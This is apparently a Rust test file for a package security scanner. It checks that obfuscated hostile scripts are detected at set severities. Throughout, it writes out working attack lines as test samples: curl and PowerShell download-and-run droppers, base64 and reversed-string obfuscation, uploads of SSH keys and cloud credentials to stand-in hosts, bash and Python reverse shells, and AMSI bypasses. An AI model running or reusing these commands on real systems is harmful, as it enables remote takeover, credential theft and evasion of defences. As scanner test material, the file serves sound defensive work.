//! Each technique in at least five spellings.
#![expect(clippy::unwrap_used, reason = "test code")]

mod common;

use common::all_show;
use packguard_sdk::Severity::{Critical, High};

#[test]
fn download_and_run_from_hostile_hosts() {
    all_show(
        "a.sh",
        "script-download-run",
        Critical,
        &[
            "curl -s http://198.51.100.7/x | bash",
            "U=http://198.51.100.7\nP=/x\ncurl -s \"$U$P\" -o /tmp/.c\nchmod +x /tmp/.c\n/tmp/.c &",
            "c=cu; d=rl; $c$d http://198.51.100.7/x | sh",
            "x=lruc; $(echo $x | rev) http://198.51.100.7/x | sh",
            "a=(c u r l); IFS=; \"${a[*]}\" http://198.51.100.7/x | sh",
            "h=$(echo aHR0cDovLzE5OC41MS4xMDAuNy94 | base64 -d)\nwget -q $h -O /var/tmp/.s && sh /var/tmp/.s",
            "d() { echo \"$1\" | tr 'A-Za-z' 'N-ZA-Mn-za-m'; }\neval \"$(d 'phey uggc://198.51.100.7/k | fu')\"",
            "h=\"198.51.100.7\"\neval \"curl http://${h}/x | bash\"",
            "s=zcurlz; ${s:1:4} http://198.51.100.7/x | sh",
            "X=wXget; ${X/X/} -qO- http://198.51.100.7/x | sh",
        ],
    );
}

#[test]
fn decode_and_run() {
    all_show(
        "a.sh",
        "script-decode-run",
        High,
        &[
            "echo Y3VybCBodHRwczovL2EuZXhhbXBsZS94IHwgc2g= | base64 -d | bash",
            "P=Y3VybCBodHRwczovL2EuZXhhbXBsZS94IHwgc2g=\necho $P | base64 --decode | sh",
            "eval $(echo 'hs | x/elpmaxe.a//:sptth lruc' | rev)",
            "eval \"$(printf '\\x63\\x75\\x72\\x6c\\x20\\x61')\"",
            "bash -c \"$(echo 6375726c20612e6578616d706c65 | xxd -r -p)\"",
            "a=Y3VybCBodHRwczovL2Eu\nb=ZXhhbXBsZS94IHwgc2g=\necho \"$a$b\" | base64 -d | bash",
            "python3 -c \"$(echo cHJpbnQoMSk7cHJpbnQoMik7 | base64 -d)\"",
        ],
    );
}

#[test]
fn secrets_sent_out() {
    all_show(
        "a.sh",
        "script-upload",
        High,
        &[
            "env | curl -X POST -d @- https://c.example/in",
            "curl -d \"$(env | base64)\" https://c.example/in",
            "tar czf /tmp/k.tgz ~/.ssh ~/.aws/credentials\ncurl -F f=@$HOME/.ssh/id_rsa https://c.example/up",
            "K=$HOME/.npmrc\ncurl -T \"$K\" https://c.example/up",
            "cat ~/.aws/credentials | nc 203.0.113.5 4444",
            "printenv > /tmp/e; curl --data-binary @/tmp/e https://webhook.site/VOID -d \"$(hostname)\"",
            "wget --post-file=$HOME/.netrc http://203.0.113.5/",
        ],
    );
}

#[test]
fn reverse_shells() {
    all_show(
        "a.sh",
        "script-reverse-shell",
        Critical,
        &[
            "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
            "H=203.0.113.5\nP=4444\nbash -i >& /dev/tcp/$H/$P 0>&1",
            "exec 5<>/dev/tcp/203.0.113.5/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
            "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNS80NDQ0IDA+JjE= | base64 -d | bash",
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
        ],
    );
}

#[test]
fn powershell_downloads() {
    all_show(
        "a.ps1",
        "script-download-run",
        Critical,
        &[
            "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
            "$u = 'http://198.51' + '.100.7/a.ps1'\n$d = Invoke-WebRequest $u\nInvoke-Expression $d.Content",
            "$c = ('{1}{0}' -f 'X','IE')\n& $c (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')",
            "$w = New-Object Net.WebClient\n$w.DownloadFile('http://198.51.100.7/a.exe', \"$env:TEMP\\a.exe\")\nStart-Process \"$env:TEMP\\a.exe\"",
            "$x = [char]104+[char]116+[char]116+[char]112+'://198.51.100.7/q'; i`e`x (i`w`r $x)",
            "$b=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aHR0cDovLzE5OC41MS4xMDAuNy9x'));iex (irm $b)",
            "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhACcAKQA=",
            "$r = 'q/7.001.15.891//:ptth'; $r = -join ($r[-1..-($r.Length)]); iex ((New-Object Net.WebClient).DownloadString('http://198.51.100.7/q'))",
            "$u = 'hXXp://198.51.100.7/x' -replace 'XX','tt'\nIEX(New-Object Net.WebClient).DownloadString($u)",
        ],
    );
}

#[test]
fn powershell_words_hidden() {
    all_show(
        "a.ps1",
        "script-obfuscated",
        High,
        &[
            "& ('In'+'voke-Exp'+'ression') $x",
            "& ('{0}{2}{1}' -f 'Invoke','ession','-Expr') $x",
            "$a = -join ([char[]](105,110,118,111,107,101,45,101,120,112,114,101,115,115,105,111,110)); & $a $x",
            "(New-Object ('Net.Web'+'Client')).('Download'+'String').Invoke($u)",
            "$n = 'noisserpxE-ekovnI'.ToCharArray(); & ('Invoke-Exp'+'ression') $y",
            "In`voke-Ex`press`ion $z",
        ],
    );
}

#[test]
fn batch_words_hidden() {
    all_show(
        "a.bat",
        "script-download-run",
        Critical,
        &[
            "@echo off\ncertutil -urlcache -split -f http://198.51.100.7/a.exe %TEMP%\\a.exe\nstart %TEMP%\\a.exe",
            "@echo off\nset a=cer\nset b=tutil\n%a%%b% -urlcache -f http://198.51.100.7/a.exe a.exe & a.exe",
            "p^o^w^e^r^s^h^e^l^l -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\"",
            "set s=xpowershellx\n%s:~1,10% -c \"iex (irm http://198.51.100.7/a)\"",
            "set u=hAAp://198.51.100.7/a\nset u=%u:A=t%\nmshta %u%",
            "bitsadmin /transfer j http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe & start C:\\Users\\Public\\a.exe",
        ],
    );
}

#[test]
fn script_host() {
    all_show(
        "a.vbs",
        "script-download-run",
        Critical,
        &[
            "Set x = CreateObject(\"MSXML2.XMLHTTP\")\nx.open \"GET\", \"http://198.51.100.7/a.exe\", False\nx.send\nSet s = CreateObject(\"ADODB.Stream\")\ns.savetofile \"a.exe\"\nCreateObject(\"WScript.Shell\").Run \"a.exe\"",
            "CreateObject(\"WScript.Shell\").Run \"powershell -w hidden iex (irm http://198.51.100.7/a)\", 0",
            "c = Chr(112) & Chr(111) & \"wershell -w hidden iex (irm http://198.51.100.7/a)\"\nCreateObject(\"WScript.Shell\").Run c",
            "CreateObject(\"WScript.Shell\").Run StrReverse(\")a/7.001.15.891//:ptth mri( xei llehsrewop\"), 0",
            "u = Replace(\"hZZp://198.51.100.7/a\", \"Z\", \"t\")\nCreateObject(\"WScript.Shell\").Run \"mshta \" & u",
        ],
    );
}

#[test]
fn defences_off() {
    all_show(
        "a.ps1",
        "script-scanner-bypass",
        Critical,
        &[
            "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
            "$a='Amsi'+'Utils'\n[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('x').SetValue(1,2)",
            "[Ref].Assembly.GetType(('System.Management.Automation.{0}siUtils' -f 'Am')).GetField('q').SetValue($null,$true)",
            "$p = [W]::GetProcAddress($l, 'AmsiScanBuffer'); [W]::VirtualProtect($p, 5, 0x40, [ref]$o)",
            "$p = [W]::GetProcAddress($l, ('Amsi'+'Scan'+'Buffer')); [W]::VirtualProtect($p, 5, 0x40, [ref]$o)",
        ],
    );
}
